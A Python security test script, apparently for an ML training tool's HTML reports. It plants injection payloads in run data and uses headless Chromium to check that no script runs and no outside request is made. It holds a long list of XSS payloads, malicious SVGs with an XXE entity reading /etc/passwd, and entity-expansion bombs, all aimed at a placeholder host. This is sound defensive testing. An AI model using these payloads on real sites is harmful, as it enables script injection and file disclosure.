#!/usr/bin/env python3
"""Run folders as somebody might write them against who reports on them, shown in a headless Chromium.

    scripts/check-hostile-pages.py BUILD

Makes folders with tricks in every place that a page takes text or pictures from, lets BUILD/lora-ft make their pages, and
opens each in Chromium with its network log on. Fails if a page holds an element or attribute that is not the page's own,
or if by Chromium's own log a script ran, anything but the page and pictures in itself was asked for, or the page is left.
A page that does all this goes through the same checks first: a check that cannot see it is none."""
import html.parser
import json
import os
import pathlib
import shutil
import subprocess
import sys
import tempfile

SITE = "trick.invalid"
SCRIPT = "document.title='SCRIPT-RAN'"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">%s</svg>'

# What stands in names, messages, labels and values.
TEXTS = [
    f"<script>{SCRIPT}</script>",
    f"</title></style></pre></td><script src=//{SITE}/a.js></script>",
    f'"><img src=x onerror="{SCRIPT}">',
    f"' onmouseover='{SCRIPT}",
    f"<img/src=//{SITE}/b.png>",
    f"<img srcset=//{SITE}/c.png>",
    f"<svg/onload={SCRIPT}>",
    f"<iframe src=//{SITE}/d srcdoc='<script>{SCRIPT}</script>'>",
    f"<object data=//{SITE}/e></object><embed src=//{SITE}/f>",
    f"<link rel=stylesheet href=//{SITE}/g.css><link rel=dns-prefetch href=//h.{SITE}>",
    f"<style>@import '//{SITE}/i.css';body{{background:url(//{SITE}/j)}}</style>",
    f"<meta http-equiv=refresh content='0;url=//{SITE}/k'>",
    f"<base href=//{SITE}/>",
    f"<form action=//{SITE}/l><button autofocus formaction=//{SITE}/m>run</button></form>",
    f"<details open ontoggle={SCRIPT}>",
    f"<video poster=//{SITE}/n><source src=//{SITE}/o onerror={SCRIPT}></video>",
    f"<math href='javascript:{SCRIPT}'>x</math><a ping=//{SITE}/p href=//{SITE}/q>x</a>",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt; &#60;script&#62;{SCRIPT}",
    f"]]><!--><script>{SCRIPT}</script>",
    f"\u2028<script>{SCRIPT}</script>\u202e\u0008\x1b]0;x\x07",
    f"+ADw-script+AD4-{SCRIPT}+ADw-/script+AD4-",
    f"<template><script>{SCRIPT}</script></template><noscript><img src=//{SITE}/r></noscript>",
]

# What stands in the place of gnuplot's pictures.
DRAWINGS = [
    SVG % f"<script>{SCRIPT}</script>",
    SVG % f"<script href='http://{SITE}/s.js'/>",
    SVG % f"<a href='java&#115;cript:{SCRIPT}'><rect width='9' height='9'/></a>",
    SVG % f"<image href = 'http://{SITE}/t.png' width='9' height='9'/>",
    SVG % f"<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><img src ='http://{SITE}/u' "
    f"srcset='http://{SITE}/v'/><button formaction='http://{SITE}/w'>x</button></body></foreignObject>",
    SVG % f"<rect width='9' height='9' style=\"fill:url('http://{SITE}/x#y')\"/>",
    SVG % f"<use href='http://{SITE}/y.svg#z'/>",
    SVG % f"<g onload=\"{SCRIPT}\" onclick=\"{SCRIPT}\"><rect width='9' height='9'/></g>",
    SVG % f"<set attributeName='onload' to=\"{SCRIPT}\"/><animate attributeName='href' values='http://{SITE}/z'/>",
    SVG % f"<style>@import 'http://{SITE}/aa.css';</style>",
    SVG % f"</svg><script>{SCRIPT}</script><svg>",
    f"<?xml-stylesheet href='http://{SITE}/bb.xsl' type='text/xsl'?>" + SVG % "<rect width='9' height='9'/>",
    f"<!DOCTYPE svg SYSTEM 'http://{SITE}/cc.dtd' [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>" + SVG % "<text>&e;</text>",
    "<!DOCTYPE svg [<!ENTITY a '" + "x" * 99 + "'>" +
    "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 9 if i else '&a;' * 9}'>" for i in range(12)) + "]>" + SVG % "<text>&a11;</text>",
    SVG % ("<defs><g id='gpPt0'><rect width='9' height='9'/></g>" +
           "".join(f"<g id='gpPt{i}'>" + f"<use xlink:href='#gpPt{i - 1}'/>" * 10 + "</g>" for i in range(1, 9)) +
           "</defs><use xlink:href='#gpPt8'/>"),
]

# What a page is made of.
ALLOWED = {
    "html": {"lang"}, "head": set(), "meta": {"charset", "name", "content", "http-equiv"}, "title": set(), "style": set(),
    "body": set(), "h1": set(), "h2": set(), "p": {"class"}, "b": set(), "br": set(), "div": {"class"}, "span": {"class"},
    "small": set(), "table": {"class"}, "thead": set(), "tbody": set(), "tr": {"class"}, "th": {"class"},
    "td": {"class", "style", "colspan"}, "ul": set(), "li": set(), "pre": set(), "details": {"open"}, "summary": set(),
    "figure": set(), "figcaption": set(), "img": {"alt", "src"}, "footer": set(), "code": set(),
}


class Page(html.parser.HTMLParser):
    """Collects what a page should not hold."""

    def __init__(self):
        super().__init__()
        self.wrong, self.policies = [], 0

    def handle_starttag(self, tag, attributes):
        names = {name for name, _ in attributes}
        if tag not in ALLOWED or not names <= ALLOWED[tag]:
            self.wrong.append(self.get_starttag_text()[:80])
        values = dict(attributes)
        if tag == "img" and not values.get("src", "").startswith("data:image/svg+xml;base64,"):
            self.wrong.append(self.get_starttag_text()[:80])
        if tag == "meta" and "http-equiv" in names:
            self.policies += values["http-equiv"] == "Content-Security-Policy" and "default-src 'none'" in values["content"]
            if values["http-equiv"] != "Content-Security-Policy":
                self.wrong.append(self.get_starttag_text()[:80])

    def handle_startendtag(self, tag, attributes):
        self.handle_starttag(tag, attributes)


def write(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def make_run(run, i, text):
    """A run with the text in all its places, and a drawing in the place of each picture."""
    config = {"model": f"m/{text}", "train_data": text, "output_dir": str(run), "learning_rate": 1e-3 * (1 + i % 3), "seed": i,
              "init_lora_weights": text, text: text}
    write(run / "config.json", json.dumps(config))
    steps = [{"step": s, "loss": 3 - s / 40, "eval_accuracy": s / 50, "base_accuracy": 0.9} for s in range(0, 41, 10)]
    write(run / "metrics.jsonl", "".join(json.dumps(s) + "\n" for s in steps))
    if i % 4 == 3:
        return write(run / "error.json", json.dumps({"state": "diverged", "message": text, "start": {"name": text, "plain": False, "position": 0.5, "line": text}}))
    results = {"eval_accuracy": 0.8 + i / 1000, "base_before": 0.9, "base_after": 0.8, "forgetting": 0.1, "retention": 0.89,
               "update_ratio": 0.1, "start": {"name": text, "plain": False, "position": 0.5, "line": text}, "made": {k: text for k in ("host", "cpu", "kernels", "date")}, text: text}
    write(run / "all_results.json", json.dumps(results))
    write(run / "confusion.json", json.dumps({"labels": [text, "b"], "counts": [[3, 1], [1, 3]]}))
    for k, name in enumerate(("spectrum", "update-map")):
        write(run / f"{name}.svg", DRAWINGS[(2 * i + k) % len(DRAWINGS)])


def make_sequence(dir, i, text):
    """A sequence of tasks with the text in all its places."""
    config = {"model": f"m/{text}", "output_dir": str(dir), "learning_rate": 1e-3, "seed": i, "between": text, "tasks": [{"name": text}],
              "init_lora_weights": text, text: text}
    write(dir / "continual.json", json.dumps(config))
    after = [{"name": text, "scores": [0.5, None, 0.2], "base": 0.8}, {"name": "b", "scores": [0.4, 0.9, 0.1], "base": 0.7}]
    told = {"between": text, "says": text, "measure": text if i % 3 == 2 else "accuracy", "tasks": [text, "b", text], "runs": 3,
            "before": [0.3, 0.3, 0.3], "base_before": 0.9, "after": after, text: text}
    write(dir / "sequence.json", json.dumps(told))
    if i % 2:
        return write(dir / "error.json", json.dumps({"state": "failed", "message": text}))
    figures = {"average_accuracy": 0.4 + i / 1000, "bwt": -0.1, "forgetting": 0.1, "base_before": 0.9, "base_after": 0.7, "base_forgetting": 0.2,
               "base_retention": 0.78}
    results = {**figures, "between": text, "adapter": text, "at_the_end": {text: 0.4}, "when_learned": {text: 0.5},
               "course": [{"after": text, **figures}, {"after": text, **figures}], text: text}
    write(dir / "all_results.json", json.dumps(results))
    return None


def make_folders(work, program):
    """Pages of each run and of all of them."""
    top = work / "it's <b>\"hostile\"</b> & =1+1"
    runs = []
    for i, text in enumerate(TEXTS):
        run = top / (f"r{i}" + text.replace("/", "_")[:60])
        try:
            make_run(run, i, text)
        except (OSError, ValueError):
            run = top / f"r{i}"
            make_run(run, i, text)
        runs.append(run)
    several = work / "sequences"
    sequences = [several / f"s{i}" for i in range(len(TEXTS))]
    for i, text in enumerate(TEXTS):
        make_sequence(sequences[i], i, text)
    folders = (*runs, top, *sequences, several)
    for folder in folders:
        subprocess.run([program, "report", str(folder)], check=True, stdout=subprocess.DEVNULL)
    return [folder / "report.html" for folder in folders]


def browse(work, page):
    """The page's final text, and what Chromium's own log says was asked for."""
    log, profile = work / "netlog.json", work / "profile"
    shutil.rmtree(profile, ignore_errors=True)
    quiet = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
             "--disable-sync", "--disable-default-apps", "--no-first-run", "--no-default-browser-check", "--disable-extensions",
             f"--user-data-dir={profile}", f"--log-net-log={log}", "--enable-logging=stderr", "--virtual-time-budget=3000"]
    done = subprocess.run(["chromium", *quiet, "--dump-dom", page.as_uri()], capture_output=True, timeout=120, check=True)
    text = log.read_text(encoding="utf-8", errors="replace")
    try:
        events = json.loads(text)["events"]
    except json.JSONDecodeError:  # it was not closed
        events = json.loads(text.rstrip().rstrip(",") + "]}")["events"]
    asked = {e["params"][k] for e in events if "params" in e for k in ("url", "host") if k in e["params"]}
    return done.stdout.decode(errors="replace"), asked, done.stderr.decode(errors="replace")


def is_of(asked, page):
    own = ("data:", "chrome:", "chrome-extension:", "about:")
    return asked == page.as_uri() or asked.startswith(own)


def wrongs(work, page):
    """What is wrong with a page, in words."""
    parser = Page()
    parser.feed(page.read_text(encoding="utf-8"))
    found = [f"holds {w}" for w in parser.wrong]
    if parser.policies != 1:
        found.append("has no policy")
    final, asked, said = browse(work, page)
    elsewhere = sorted(a for a in asked if SITE in a or a.startswith("file:") and not is_of(a, page))
    found += [f"asked for {a}" for a in elsewhere]
    if "SCRIPT-RAN" in final.split("</title>")[0].split("<title>")[-1] and "document.title" not in final.split("</title>")[0]:
        found.append("ran a script")
    if "lora-ft" not in final.split("<footer>")[-1]:
        found.append("was left, or is not whole")
    if "Content Security Policy" in said:
        found.append("needed its policy: " + [line for line in said.splitlines() if "Content Security Policy" in line][0][:200])
    return found


def control(work):
    """A page with all that is forbidden must be seen to do it."""
    page = work / "control.html"
    write(page, f"<title>x</title><img src=http://{SITE}/1.png><iframe src=http://{SITE}/2></iframe><script>{SCRIPT}</script>")
    found = " ".join(wrongs(work, page))
    for word in ("1.png", "ran a script", "has no policy", "holds <script>", "is not whole"):
        if word not in found:
            sys.exit(f"the check does not see '{word}' of a page that does it: {found}")


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    if not shutil.which("chromium"):
        sys.exit("chromium is not there; install it (Debian: chromium)")
    program = str(pathlib.Path(sys.argv[1]).resolve() / "lora-ft")
    with tempfile.TemporaryDirectory() as folder:
        work, bad = pathlib.Path(folder), 0
        control(work)
        pages = make_folders(work, program)
        for page in pages:
            for wrong in wrongs(work, page):
                bad += 1
                print(f"{page.parent.name!r}: {wrong}")
        if list(work.rglob("HACKED")):
            sys.exit("a command was run")
    print(f"{len(TEXTS)} texts and {len(DRAWINGS)} drawings on {len(pages)} pages: {bad} wrong")
    sys.exit(bad > 0)


if __name__ == "__main__":
    main()
